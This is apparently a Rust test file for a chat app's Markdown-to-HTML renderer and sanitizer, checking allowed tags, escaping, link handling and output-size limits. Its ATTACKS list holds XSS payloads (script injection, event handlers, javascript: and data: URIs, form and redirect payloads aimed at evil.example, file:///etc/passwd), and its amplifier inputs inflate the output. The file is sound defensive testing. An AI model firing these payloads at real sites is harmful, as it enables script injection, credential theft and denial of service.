//! The HTML of messages: what it can contain, and what it never contains.

use std::time::Instant;

use super::*;

fn parsed(source: &str) -> Vec<Event<'_>> {
    markdown::parse(source, BTreeMap::new()).events
}

fn rendered(source: &str) -> String {
    with_previews(source, &[])
}

fn with_previews(source: &str, previews: &[PreviewModel]) -> String {
    render(source, Mentions::default(), previews.to_vec()).html
}

/// Fails unless every tag and attribute in `html` is allowed. Does not use the cleaner under test.
fn assert_harmless(html: &str, source: &str) {
    for piece in html.split('<').skip(1) {
        let tag = piece.split('>').next().expect("split gives at least one piece");
        let name = tag.trim_start_matches('/').split(' ').next().expect("split gives at least one piece");
        assert!(TAGS.contains(&name), "tag {name:?} from {source:?} in {html}");
        let attributes = tag.trim_start_matches('/')[name.len()..].trim();
        let harmless = match name {
            _ if attributes.is_empty() => true,
            // A link whose address was refused.
            "a" if attributes == "target=\"_blank\" rel=\"nofollow noopener noreferrer\"" => true,
            "a" => attributes.strip_prefix("href=\"http").is_some_and(|rest| {
                (rest.starts_with("://") || rest.starts_with("s://"))
                    && rest.ends_with("\" target=\"_blank\" rel=\"nofollow noopener noreferrer\"")
                    && rest.matches('"').count() == 5
            }),
            "ol" => attributes
                .strip_prefix("start=\"")
                .is_some_and(|rest| rest.trim_end_matches('"').chars().all(|character| character.is_ascii_digit())),
            "mark" => attributes
                .strip_prefix("data-user-id=\"")
                .is_some_and(|rest| rest.trim_end_matches('"').chars().all(|character| character.is_ascii_digit())),
            _ => false,
        };
        assert!(harmless, "attributes {attributes:?} from {source:?} in {html}");
    }
}

#[test]
fn markdown_becomes_html() {
    for (source, html) in [
        ("hello", "<p>hello</p>\n"),
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>\n"),
        ("```rust\nlet a = 1 < 2;\n```", "<pre><code>let a = 1 &lt; 2;\n</code></pre>\n"),
        ("# big", "<h3>big</h3>\n"),
        ("---", "<hr>\n"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
        (
            "|a|*b*|\n|:-|-:|\n|1|`2`|",
            "<table><thead><tr><th>a</th><th><em>b</em></th></tr></thead><tbody>\n\
             <tr><td>1</td><td><code>2</code></td></tr>\n</tbody></table>\n",
        ),
        ("- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>\n"),
        (":tada: **:+1:** :wave:!", "<p>🎉 <strong>👍</strong> 👋!</p>\n"),
        ("`:tada:` 10:100:30 a:tada: :nothing:", "<p><code>:tada:</code> 10:100:30 a:tada: :nothing:</p>\n"),
    ] {
        assert_eq!(rendered(source), html, "{source:?}");
    }
}

#[test]
fn known_users_are_marked_except_in_code_links_and_raw_html() {
    let users = || BTreeMap::from([(7, "ada".to_owned()), (8, "a<b>".to_owned())]);
    for (source, html, user_ids, everyone) in [
        ("hi @Ada!", "<p>hi <mark data-user-id=\"7\">@Ada</mark>!</p>\n", vec![7], false),
        ("**@ada** @bob", "<p><strong><mark data-user-id=\"7\">@ada</mark></strong> @bob</p>\n", vec![7], false),
        ("- @channel", "<ul>\n<li><mark>@channel</mark></li>\n</ul>\n", vec![], true),
        ("`@ada @channel`", "<p><code>@ada @channel</code></p>\n", vec![], false),
        ("```\n@ada\n```", "<pre><code>@ada\n</code></pre>\n", vec![], false),
        ("me@ada", "<p>me@ada</p>\n", vec![], false),
        (
            "[@ada](https://a.example)",
            "<p><a href=\"https://a.example/\" target=\"_blank\" rel=\"nofollow noopener noreferrer\">@ada</a></p>\n",
            vec![],
            false,
        ),
        ("<p>@ada</p>", "<p>&lt;p&gt;@ada&lt;/p&gt;</p>\n", vec![], false),
        ("<mark data-user-id=7>x</mark>", "<p>&lt;mark data-user-id=7&gt;x&lt;/mark&gt;</p>\n", vec![], false),
        ("@a\\<b>", "<p><mark data-user-id=\"8\">@a&lt;b&gt;</mark></p>\n", vec![8], false),
    ] {
        let rendered = message(source, users()).expect("it is a valid message");
        assert_eq!(rendered.html, html, "{source}");
        assert_harmless(html, source);
        let mentioned: Vec<i64> = rendered.mentions.users.keys().copied().collect();
        assert_eq!((mentioned, rendered.mentions.everyone), (user_ids, everyone), "{source}");
        // A preview renders the message again, from what was stored.
        assert_eq!(render(source, rendered.mentions, Vec::new()).html, html, "{source}");
    }
}

#[test]
fn a_message_shown_as_plain_text_mentions_nobody() {
    let source = "@ab ".repeat(2000);
    let rendered = message(&source, BTreeMap::from([(1_000_000, "ab".to_owned())])).expect("it is a valid message");
    assert!(!rendered.html.contains("<mark") && rendered.mentions.is_empty());
}

#[test]
fn only_names_that_can_be_marked_are_looked_up() {
    assert_eq!(candidates("hello"), BTreeSet::new());
    assert_eq!(candidates("@Ada `@code` https://a.example/@path [@text](https://b.example) me@mail.example"), {
        BTreeSet::from(["ada".to_owned()])
    });
}

#[test]
fn bare_web_addresses_become_links_except_in_code_and_links() {
    let link = |address: &str, text: &str| {
        format!("<a href=\"{address}\" target=\"_blank\" rel=\"nofollow noopener noreferrer\">{text}</a>")
    };
    let example = link("https://a.example/b_c_d", "https://a.example/b_c_d");
    assert_eq!(rendered("see https://a.example/b_c_d."), format!("<p>see {example}.</p>\n"));
    assert_eq!(rendered("(https://a.example/b_c_d)"), format!("<p>({example})</p>\n"));
    assert_eq!(
        rendered("http://a.example/?b=1&c=2"),
        format!("<p>{}</p>\n", link("http://a.example/?b=1&amp;c=2", "http://a.example/?b=1&amp;c=2"))
    );
    assert_eq!(rendered("`https://a.example`"), "<p><code>https://a.example</code></p>\n");
    assert_eq!(rendered("    https://a.example"), "<pre><code>https://a.example</code></pre>\n");
    assert_eq!(
        rendered("[https://b.example](https://a.example)"),
        format!("<p>{}</p>\n", link("https://a.example/", "https://b.example"))
    );
    assert_eq!(rendered("mail me@a.example or ftp://a.example"), "<p>mail me@a.example or ftp://a.example</p>\n");
}

#[test]
fn images_become_links_so_that_showing_a_message_fetches_nothing() {
    let html = rendered("![a cat](https://a.example/cat.png) ![](https://a.example/dog.png)");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains(">a cat</a>") && html.contains(">https://a.example/dog.png</a>"), "{html}");
}

#[test]
fn raw_html_is_shown_as_text() {
    assert_eq!(rendered("<b>bold</b>"), "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n");
    assert_eq!(
        rendered("<div>\n<p onclick=x>y\n</div>"),
        "<p>&lt;div&gt;<br>\n&lt;p onclick=x&gt;y<br>\n&lt;/div&gt;</p>\n"
    );
    assert_eq!(rendered("<!-- c -->"), "<p>&lt;!-- c --&gt;</p>\n");
}

const ATTACKS: [&str; 34] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://a.example\" onclick=alert(1)>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/users/me)",
    "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
];

#[test]
fn no_attack_leaves_a_tag_or_an_attribute_that_is_not_allowed() {
    for attack in ATTACKS {
        for source in [
            attack.to_owned(),
            format!("> {attack}"),
            format!("- {attack}"),
            format!("**{attack}**"),
            format!("[{attack}](https://a.example)"),
            format!("`{attack}"),
            format!("text\n\n{attack}\n\ntext"),
        ] {
            assert_harmless(&rendered(&source), &source);
        }
    }
}

#[test]
fn no_attack_succeeds_through_a_preview() {
    for attack in ATTACKS {
        let preview = PreviewModel {
            url: "https://a.example/".to_owned(),
            title: attack.to_owned(),
            description: Some(attack.to_owned()),
        };
        assert_harmless(&with_previews("x", &[preview]), attack);
    }
    let preview = PreviewModel { url: "javascript:alert(1)".to_owned(), title: "x".to_owned(), description: None };
    assert_harmless(&with_previews("x", &[preview]), "a preview of javascript:");
}

#[test]
fn cleaning_clean_html_changes_nothing() {
    for source in ATTACKS.into_iter().chain(["- a\n  > b\n\n1. c https://a.example/?a=1&b=2", "`<b>` & \"q\" 'r'"]) {
        let once = rendered(source);
        assert_eq!(clean(&once), once, "{source:?}");
    }
}

#[test]
fn the_cleaner_alone_stops_every_attack() {
    for attack in ATTACKS {
        assert_harmless(&clean(attack), attack);
    }
}

/// Sources put together at random from pieces of Markdown and HTML. The sequence is the same at every run.
#[test]
fn random_markup_is_harmless_and_bounded() {
    const PIECES: [&str; 40] = [
        "|",
        "\n|-|-|\n",
        "- [x] ",
        ":tada:",
        "<",
        ">",
        "</",
        "/>",
        "\"",
        "'",
        "`",
        "```",
        "*",
        "**",
        "~~",
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "&",
        "&lt;",
        "#",
        "\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "1. ",
        "script",
        "svg",
        "img src=x onerror=",
        "a href=",
        "javascript:",
        "https://a.example/",
        "<!--",
        "<![CDATA[",
        "\u{202e}",
        "ü日本🦀\u{0}",
    ];
    // A xorshift: its quality suffices here, without a dependency.
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % below as u64).expect("below is a usize")
    };
    for _ in 0..3000 {
        let source: String = (0..=next(40)).map(|_| PIECES[next(PIECES.len())]).collect();
        let html = rendered(&source);
        assert_harmless(&html, &source);
        assert!(html.len() <= 8 * source.len() + 1024);
        assert_eq!(clean(&html), html, "{source:?}");
    }
}

#[test]
fn deep_nesting_is_limited_and_keeps_the_text() {
    for piece in ["> ", "- ", "* > ", "1. "] {
        let source = format!("{}end", piece.repeat(8000 / piece.len()));
        let html = rendered(&source);
        assert!(html.contains("end"), "{piece:?}");
        assert!(html.matches("<blockquote>").count() + html.matches("<ul>").count() <= 16, "{piece:?}");
        assert_harmless(&html, piece);
    }
    for piece in ["*a ", "**a _b ", "[", "![", "<b>", "](", "`", "~~a "] {
        let source = piece.repeat(8000 / piece.len());
        assert_harmless(&rendered(&source), piece);
    }
}

/// Sources whose HTML is many times longer, each for a length in bytes.
const AMPLIFIERS: [fn(usize) -> String; 22] = [
    // A reference with a short and with a long address, as link, shortcut and image.
    |bytes| format!("{}\n\n[l]: http:b", "[a][l]".repeat(bytes / 6)),
    |bytes| format!("[l]: http:b\n\n{}", "[l]".repeat(bytes / 3)),
    |bytes| format!("[l]: http:b\n\n{}", "![l]".repeat(bytes / 4)),
    |bytes| format!("[l]: https://a.example/{}\n\n{}", "b".repeat(bytes.min(2000)), "[l]".repeat(bytes / 3)),
    |bytes| format!("[l]: https://a.example/{}\n\n{}", "\"".repeat(bytes.min(600)), "[l]".repeat(bytes / 3)),
    |bytes| format!("[l]: https://a.example/{}\n\n{}", "&".repeat(bytes.min(2000)), "[l]".repeat(bytes / 3)),
    |bytes| format!("[l]: https://a.example \"{}\"\n\n{}", "t".repeat(bytes.min(2000)), "[l]".repeat(bytes / 3)),
    // Bare addresses, autolinks, links.
    |bytes| "http://a ".repeat(bytes / 9),
    |bytes| "<http:a>".repeat(bytes / 8),
    |bytes| "[a](http:b)".repeat(bytes / 11),
    |bytes| format!("https://a.example/{}", "&".repeat(bytes.min(2000))),
    // Nested and empty structure.
    |bytes| ">\n\n".repeat(bytes / 3),
    |bytes| format!("{}\n\n", ">".repeat(16)).repeat(bytes / 18),
    |bytes| format!("{}\n\n", "> ".repeat(16)).repeat(bytes / 34),
    |bytes| format!("{}\n", "- ".repeat(16)).repeat(bytes / 33),
    |bytes| "-\n+\n".repeat(bytes / 4),
    |bytes| "2.\n2)\n".repeat(bytes / 6),
    |bytes| "#\n".repeat(bytes / 2),
    |bytes| "`a`*b*~c~".repeat(bytes / 9),
    // Escapes.
    |bytes| "&<\"".repeat(bytes / 3),
    |bytes| "&\n".repeat(bytes / 2),
    |bytes| format!("```\n{}\n```", "&".repeat(bytes)),
];

#[test]
fn no_source_makes_html_that_is_many_times_longer() {
    for (number, amplifier) in AMPLIFIERS.iter().enumerate() {
        for bytes in [20, 100, 500, 2000, 4286, 8192] {
            let source: String = amplifier(bytes).chars().take(8192).collect();
            let html = rendered(&source);
            assert!(html.len() <= 8 * source.len() + 1024, "amplifier {number}: {} of {bytes}", html.len());
            assert!(html.len() <= HTML_BYTES_MAX, "amplifier {number}: {}", html.len());
            assert_harmless(&html, &source);
        }
    }
}

/// The message of the attack: 4,286 bytes that became 110,855.
#[test]
fn a_message_with_too_long_html_is_shown_as_plain_text() {
    let source = format!("{}\n\n[l]: http:b", "[a][l]".repeat(712));
    assert!(to_html(parsed(&source)).len() > 8 * source.len() + 1024, "the source no longer makes long HTML");
    let rendered = message(&source, BTreeMap::new()).expect("it is a valid message");
    assert_eq!(rendered.html, format!("<p>{}</p>\n", source.replace('\n', "<br>\n")));
    assert!(rendered.links.is_empty(), "plain text shows no link");
    assert_harmless(&rendered.html, "many references");
}

#[test]
fn a_table_with_many_more_cells_than_its_source_has_is_shown_as_plain_text() {
    let source = format!("{}\n{}\n{}", "|a".repeat(1000), "|-".repeat(1000), "|b\n".repeat(1300));
    let began = Instant::now();
    let rendered = message(&source, BTreeMap::new()).expect("it is a valid message");
    assert!(rendered.html.starts_with("<p>|a|a") && rendered.html.len() <= HTML_BYTES_MAX);
    // Ten times as long as on a busy machine.
    assert!(began.elapsed().as_secs() < 5, "{:?}", began.elapsed());
}

#[test]
fn the_longest_plain_text_fits() {
    for character in ["&", "<", "\"", "\n", "\u{a0}", "\u{1f980}", "&\n"] {
        let source: String = character.repeat(8192).chars().take(8192).collect();
        assert!(to_html(markdown::plain_events(&source)).len() <= HTML_BYTES_MAX, "{character:?}");
    }
}

#[test]
fn honest_messages_keep_their_markup() {
    let code = "if a < b && c > d { println!(\"{}\", vec![1, 2]); }\n".repeat(150);
    let numbered = |count: u32, line: &dyn Fn(u32) -> String| (0..count).map(line).collect::<Vec<_>>().join("\n");
    let links = numbered(150, &|number| format!("- [issue {number}](https://tracker.example/issues/{number})"));
    let addresses = numbered(200, &|number| format!("https://example.org/page/{number}?a=1&b=2"));
    let list = numbered(400, &|number| format!("{number}. **item** with `code` & *text*"));
    for (source, tags) in [
        (format!("```\n{code}```"), vec!["<pre><code>"]),
        (links, vec!["<ul>", "<a href="]),
        (addresses, vec!["<a href="]),
        (list, vec!["<ol", "<strong>", "<code>", "<em>"]),
        ("> a\n>> b\n>>> c\n\n".repeat(60), vec!["<blockquote>"]),
        // A short message may be all markup.
        (format!("[l]: http:b\n\n{}", "[l] ".repeat(12)), vec!["<a href="]),
        ("- - - - a".to_owned(), vec!["<ul>"]),
        ("\"&\"".repeat(2000), vec!["<p>"]),
    ] {
        let html = rendered(&source);
        for tag in tags {
            assert!(html.contains(tag), "{tag} is missing: {} of {}", html.len(), source.len());
        }
    }
}

#[test]
fn previews_add_a_bounded_length() {
    let preview = |character: &str, url: String| PreviewModel {
        url,
        title: character.repeat(200),
        description: Some(character.repeat(500)),
    };
    let url = || "https://a.example/page".to_owned();
    for character in ["&", "<", "\u{1f980}"] {
        let previews = [preview(character, url()), preview(character, url()), preview(character, url())];
        let html = with_previews("x", &previews);
        assert_eq!(html.matches("<blockquote>").count(), 3, "{character}");
        assert!(html.len() <= "<p>x</p>\n".len() + 3 * PREVIEW_HTML_BYTES_MAX, "{character}: {}", html.len());
    }
    let long = preview("&", format!("https://a.example/{}", "&".repeat(2000)));
    assert_eq!(with_previews("x", &[long]), "<p>x</p>\n");
}

#[test]
fn text_in_every_language_is_kept() {
    for source in ["Grüße, 日本語 и русский", "🦀👩‍👩‍👧‍👦 e\u{301}", "שלום \u{200f}عربي", "zero\u{200b}width"]
    {
        assert_eq!(rendered(source), format!("<p>{source}</p>\n"));
    }
}

#[test]
fn previews_are_appended_as_quotes_with_a_linked_title() {
    let previews = [
        PreviewModel {
            url: "https://a.example/".to_owned(),
            title: "A & B".to_owned(),
            description: Some("says <i>hello</i>".to_owned()),
        },
        PreviewModel { url: "https://b.example/".to_owned(), title: "C".to_owned(), description: None },
    ];
    assert_eq!(
        with_previews("x", &previews),
        "<p>x</p>\n<blockquote>\n<p><a href=\"https://a.example/\" target=\"_blank\" \
         rel=\"nofollow noopener noreferrer\">A &amp; B</a></p>\n<p>says &lt;i&gt;hello&lt;/i&gt;</p>\n</blockquote>\n\
         <blockquote>\n<p><a href=\"https://b.example/\" target=\"_blank\" \
         rel=\"nofollow noopener noreferrer\">C</a></p>\n</blockquote>\n"
    );
}

#[test]
fn the_first_distinct_links_are_previewed_without_code_and_credentials() {
    let source = "https://a.example/1#x `https://code.example` [b](https://b.example) https://a.example/1#y \
                  https://me:secret@c.example mailto:d@d.example [js](javascript:alert(1)) \
                  <https://e.example> https://f.example";
    let links = |source: &str| message(source, BTreeMap::new()).expect("it is a valid message").links;
    assert_eq!(links(source), ["https://a.example/1", "https://b.example/", "https://e.example/"]);
    assert!(links("no links at all").is_empty());
    assert!(links(&format!("https://a.example/{}", "a".repeat(markdown::URL_BYTES_MAX))).is_empty());
}

#[test]
#[ignore = "prints figures: cargo test -p flack-messages --lib figures -- --ignored --nocapture"]
fn figures_of_the_length_of_html_and_the_time_to_render_it() {
    for (number, amplifier) in AMPLIFIERS.iter().enumerate() {
        let source: String = amplifier(8150).chars().take(8192).collect();
        let started = Instant::now();
        let unbounded = to_html(parsed(&source)).len();
        let unbounded_time = started.elapsed();
        let started = Instant::now();
        let bounded = rendered(&source).len();
        let (bounded_time, bytes) = (started.elapsed(), source.len());
        println!("{number:2}: {bytes} bytes, {unbounded} in {unbounded_time:?}, {bounded} in {bounded_time:?}");
    }
}
